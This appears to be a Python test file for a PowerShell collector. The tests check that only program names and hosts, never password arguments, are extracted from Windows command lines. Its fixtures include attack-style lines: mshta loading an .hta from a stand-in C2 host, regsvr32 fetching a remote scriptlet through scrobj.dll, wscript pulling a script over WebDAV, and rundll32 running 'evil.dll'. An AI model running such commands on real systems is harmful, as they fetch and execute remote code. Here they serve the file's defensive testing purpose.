"""Get-Start of collect.ps1: of a command line only names may leave the machine.

No PowerShell can be had here: the patterns are taken out of the script, and what goes around them is done again in Python. So a
pattern that lets an argument through is noticed here; a mistake in the lines around them is not.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.test_windows_script import nodes, text

(BODY,) = [text(node) for node in nodes("function_statement") if text(node).startswith("function Get-Start(")]
SCRIPT = {text(node).partition(" =")[0]: text(node).partition("= ")[2] for node in nodes("assignment_expression")}
ENDINGS = SCRIPT["$Endings"].strip("'")
QUOTED = r"'(?:[^']|'')*'|\"(?:[^\"]|\"\")*\""


def plain(literal: str) -> str:
    """What a text of PowerShell stands for."""
    inner = literal[1:-1]
    return inner.replace("''", "'") if literal[0] == "'" else inner.replace('""', '"').replace("$Endings", ENDINGS)


HOSTS = [plain(one) for one in re.findall(QUOTED, SCRIPT["$HostPatterns"])]
LINES = [plain(one) for one in re.findall(rf"\$Line -match ({QUOTED})", BODY)]
(APART,) = [plain(one) for one in re.findall(rf"\$program -notmatch ({QUOTED})", BODY)]
LEAVES = [plain(one) for one in re.findall(rf"\$leaf -match ({QUOTED})", BODY)]
CARRIERS = plain(SCRIPT["$Carriers"])
(STARTED,) = [plain(one) for one in re.findall(rf"Matches\(\$bare, ({QUOTED})", BODY)]


def start(line: str) -> tuple[list[str], list[str]]:
    """Programs and hosts, as the script finds them."""
    program, rest = "", ""
    for pattern in LINES:
        if found := re.search(pattern, line, re.I):
            program, rest = found[1], line[len(found[0]) :]
            break
    names = []
    if not re.search(APART, program, re.I):
        leaf = program.replace("/", "\\").rpartition("\\")[2]
        if any(re.search(one, leaf, re.I) for one in LEAVES):
            names.append(leaf)
    if names and re.search(CARRIERS, names[0], re.I):
        names += re.findall(STARTED, re.sub(HOSTS[0] + r"\S*", " ", rest, flags=re.I), re.I)
    hosts = [one.strip("[]").lower() for pattern in HOSTS for one in re.findall(pattern, line, re.I)]
    return names, hosts


def test_the_patterns_were_found() -> None:
    assert (len(HOSTS), len(LINES), len(LEAVES)) == (3, 4, 2)


SECRET = "mat-khau-bi-mat"


@pytest.mark.parametrize(
    ("line", "programs", "hosts"),
    [
        (r"C:\Windows\system32\svchost.exe -k netsvcs -p", ["svchost.exe"], []),
        (rf'"C:\Program Files\Sao lưu\sao lưu.exe" --password {SECRET}', ["sao lưu.exe"], []),
        (rf"C:\Program Files\Foo - Bar\my app.exe /p:{SECRET}", ["my app.exe"], []),
        (r"%ProgramFiles%\Windows Defender\MSASCuiL.exe", ["MSASCuiL.exe"], []),
        (r"\SystemRoot\System32\drivers\x.exe", ["x.exe"], []),
        (r"C:/Tools/x.exe", ["x.exe"], []),
        (rf"notepad {SECRET}", ["notepad"], []),
        (r"C:\Windows\System32\rundll32 C:\ProgramData\x\evil.dll,Start", ["rundll32", "evil.dll"], []),
        (r"rundll32.exe C:\ProgramData\x\evil.dll,Start", ["rundll32.exe", "evil.dll"], []),
        (rf'cmd.exe /c "net use \\203.0.113.7\x {SECRET} & C:\x\chay.bat"', ["cmd.exe", "chay.bat"], ["203.0.113.7"]),
        (rf"powershell.exe -File C:\x\a.ps1 -Token {SECRET}", ["powershell.exe", "a.ps1"], []),
        (rf"mshta.exe http://u:{SECRET}@c2.example:8080/a.hta?k={SECRET}", ["mshta.exe"], ["c2.example"]),
        (rf"mshta.exe http://u:a@{SECRET}@c2.example/a.hta", ["mshta.exe"], ["c2.example"]),
        (r"regsvr32 /s /n /u /i:http://[2001:db8::1]/x.sct scrobj.dll", ["regsvr32", "scrobj.dll"], ["2001:db8::1"]),
        (r"wscript.exe \\tep.example@SSL\DavWWWRoot\x.vbs", ["wscript.exe", "x.vbs"], ["tep.example"]),
        (rf'cmd.exe /c "set X={SECRET}.exe & start y.bat"', ["cmd.exe", "y.bat"], []),
        (rf"agent.exe --server 203.0.113.9 --key {SECRET}.exe", ["agent.exe"], ["203.0.113.9"]),
        (r'"C:\Program Files (x86)\Google\Update\1.3.36.351\GoogleUpdate.exe" /c', ["GoogleUpdate.exe"], []),
        # where the program cannot be told from its arguments, none is named
        (rf"C:\Tools\tool --password {SECRET}.exe", [], []),
        (rf'"C:\Tools\tool.exe {SECRET}"', [], []),
        (rf'"cmd /c {SECRET}"', [], []),
        (rf"C:\Program Files\tool {SECRET}", [], []),
        (rf'"" --password {SECRET}', [], []),
        (r"\??\C:\Program Files\x y\z.exe", [], []),
        ("", [], []),
    ],
)
def test_of_a_line_only_names_are_kept(line: str, programs: list[str], hosts: list[str]) -> None:
    assert start(line) == (programs, hosts)
    assert SECRET not in str(start(line))


@given(
    st.sampled_from(["app.exe", r"C:\x\app.exe", r'"C:\Program Files\a b\app.exe"', "powershell.exe", "cmd"]),
    st.from_regex(r"[\w!#+=-]{6,30}", fullmatch=True),
)
def test_an_argument_is_no_name(program: str, secret: str) -> None:
    names, hosts = start(f"{program} --password {secret} -x /p:{secret}")
    assert len(names) == 1
    assert hosts == []
